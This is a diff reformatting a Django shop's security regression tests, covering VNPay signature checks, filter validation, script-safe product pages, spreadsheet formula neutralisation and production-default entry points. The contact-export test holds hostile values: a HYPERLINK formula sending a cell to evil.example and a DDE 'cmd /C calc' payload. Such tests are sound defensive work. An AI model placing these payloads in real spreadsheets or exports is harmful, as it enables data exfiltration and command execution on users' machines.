@@ -2,6 +2,7 @@
 that worked: a VNPay notice signed with the empty key of a switched-off VNPay, filter values that made
 the listings answer 500, a search cut without a word, a product title that blanked its page, a contact
 message that became a spreadsheet formula, and a WSGI entry point that started with development settings."""
+
 import csv
 import io
 import json
@@ -32,11 +33,13 @@ Category = get_model("catalogue", "Category")
 ROOT = Path(__file__).resolve().parents[3]
 
 # The database backend of search; Elasticsearch is the tests' default.
-BOTH_BACKENDS = pytest.mark.parametrize("search_settings", [{}, {"ELASTICSEARCH_URL": ""}],
-                                        ids=["elasticsearch", "database"])
+BOTH_BACKENDS = pytest.mark.parametrize(
+    "search_settings", [{}, {"ELASTICSEARCH_URL": ""}], ids=["elasticsearch", "database"]
+)
 
 
 # --- 6. VNPay switched off ------------------------------------------------------------------------
+
 
 @pytest.mark.django_db
 def test_a_vnpay_notice_signed_with_the_empty_key_of_a_switched_off_vnpay_is_refused(client, settings):
@@ -55,6 +58,7 @@ def test_a_vnpay_notice_signed_with_the_empty_key_of_a_switched_off_vnpay_is_ref
 
 # --- 7. Filters and long searches -------------------------------------------------------------------
 
+
 def _listing_urls():
     category = Category.objects.filter(is_public=True).first()
     return [reverse("search:search"), reverse("catalogue:index"), category.get_absolute_url()]
@@ -62,11 +66,23 @@ def _listing_urls():
 
 @BOTH_BACKENDS
 @pytest.mark.django_db
-@pytest.mark.parametrize("params", [
-    {"producer": "²"}, {"province": "²"}, {"producer": "1" * 23}, {"province": "9" * 23},
-    {"producer": "٣"}, {"producer": "１０"}, {"producer": "-1"}, {"province": "2147483648"},
-    {"stars": "²"}, {"group": "²"}, {"q": "chè", "producer": ["²", "1" * 23]},
-], ids=lambda params: "&".join(f"{k}={v}" for k, v in params.items()))
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"producer": "²"},
+        {"province": "²"},
+        {"producer": "1" * 23},
+        {"province": "9" * 23},
+        {"producer": "٣"},
+        {"producer": "１０"},
+        {"producer": "-1"},
+        {"province": "2147483648"},
+        {"stars": "²"},
+        {"group": "²"},
+        {"q": "chè", "producer": ["²", "1" * 23]},
+    ],
+    ids=lambda params: "&".join(f"{k}={v}" for k, v in params.items()),
+)
 def test_invalid_filter_values_are_ignored_not_a_500(client, search_settings, params):
     with override_settings(**search_settings):
         for url in _listing_urls():
@@ -147,17 +163,28 @@ def test_a_title_or_producer_name_with_a_script_opening_does_not_blank_the_produ
     else:
         assert data["brand"]["name"] == hostile
     # The rest of the page came after the data block: the basket form and the footer.
-    after = html[html.index(block) + len(block):]
+    after = html[html.index(block) + len(block) :]
     assert reverse("basket:add", kwargs={"pk": product.pk}) in html and "</footer>" in after
 
 
 # --- 13. Spreadsheet formulas in exports -----------------------------------------------------------
 
-@pytest.mark.parametrize("cell, expected", [
-    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"),
-    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
-    ("Chè Shan tuyết", "Chè Shan tuyết"), ("", ""), (12, 12), (None, None),
-])
+
+@pytest.mark.parametrize(
+    "cell, expected",
+    [
+        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
+        ("+1+2", "'+1+2"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Chè Shan tuyết", "Chè Shan tuyết"),
+        ("", ""),
+        (12, 12),
+        (None, None),
+    ],
+)
 def test_spreadsheet_safe_neutralises_formula_openings(cell, expected):
     from shop.core.spreadsheets import spreadsheet_safe
 
@@ -176,12 +203,16 @@ def test_the_figures_and_sales_exports_use_the_one_helper():
 def test_a_contact_message_with_a_formula_exports_as_text():
     page = ContactPage.objects.live().filter(locale__language_code="vi").first()
     fields = [name for name, _label in page.get_data_fields() if name != "submit_time"]
-    hostile = {fields[0]: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', fields[1]: "a@example.vn",
-               fields[2]: "@SUM(1+1)*cmd|' /C calc'!A0"}
+    hostile = {
+        fields[0]: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
+        fields[1]: "a@example.vn",
+        fields[2]: "@SUM(1+1)*cmd|' /C calc'!A0",
+    }
     page.get_submission_class().objects.create(page=page, form_data=hostile)
     client = Client()
-    client.force_login(get_user_model().objects.get(email=ADMIN[0]),
-                       backend="django.contrib.auth.backends.ModelBackend")
+    client.force_login(
+        get_user_model().objects.get(email=ADMIN[0]), backend="django.contrib.auth.backends.ModelBackend"
+    )
     response = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": "csv"})
     assert response.status_code == 200
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
@@ -193,12 +224,17 @@ def test_a_contact_message_with_a_formula_exports_as_text():
 
 # --- 15. The WSGI/ASGI entry points ----------------------------------------------------------------
 
+
 def _import_in_a_fresh_process(module, **env):
-    clean = {k: v for k, v in os.environ.items()
-             if k not in ("DJANGO_SETTINGS_MODULE", "SECRET_KEY", "ALLOWED_HOSTS", "DEBUG")}
+    clean = {
+        k: v
+        for k, v in os.environ.items()
+        if k not in ("DJANGO_SETTINGS_MODULE", "SECRET_KEY", "ALLOWED_HOSTS", "DEBUG")
+    }
     code = f"import {module}; from django.conf import settings; print(settings.SETTINGS_MODULE, settings.DEBUG)"
-    return subprocess.run([sys.executable, "-c", code], cwd=ROOT, env={**clean, **env},
-                          capture_output=True, text=True, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-c", code], cwd=ROOT, env={**clean, **env}, capture_output=True, text=True, timeout=120
+    )
 
 
 @pytest.mark.parametrize("module", ["shop.wsgi", "shop.asgi"])
@@ -206,7 +242,8 @@ def test_the_server_entry_points_default_to_production_and_refuse_without_its_se
     refused = _import_in_a_fresh_process(module)
     assert refused.returncode != 0
     assert "ImproperlyConfigured" in refused.stderr and "SECRET_KEY" in refused.stderr
-    started = _import_in_a_fresh_process(module, SECRET_KEY="k7#Qz!p2@Lm9$Wv4^Rt8&Yx1*Nb6(Hd3)Gf5-Js0+Ua=Ce" * 2,
-                                         ALLOWED_HOSTS="cho-ocop.example.vn")
+    started = _import_in_a_fresh_process(
+        module, SECRET_KEY="k7#Qz!p2@Lm9$Wv4^Rt8&Yx1*Nb6(Hd3)Gf5-Js0+Ua=Ce" * 2, ALLOWED_HOSTS="cho-ocop.example.vn"
+    )
     assert started.returncode == 0, started.stderr[-2000:]
     assert started.stdout.split() == ["shop.settings.production", "False"]
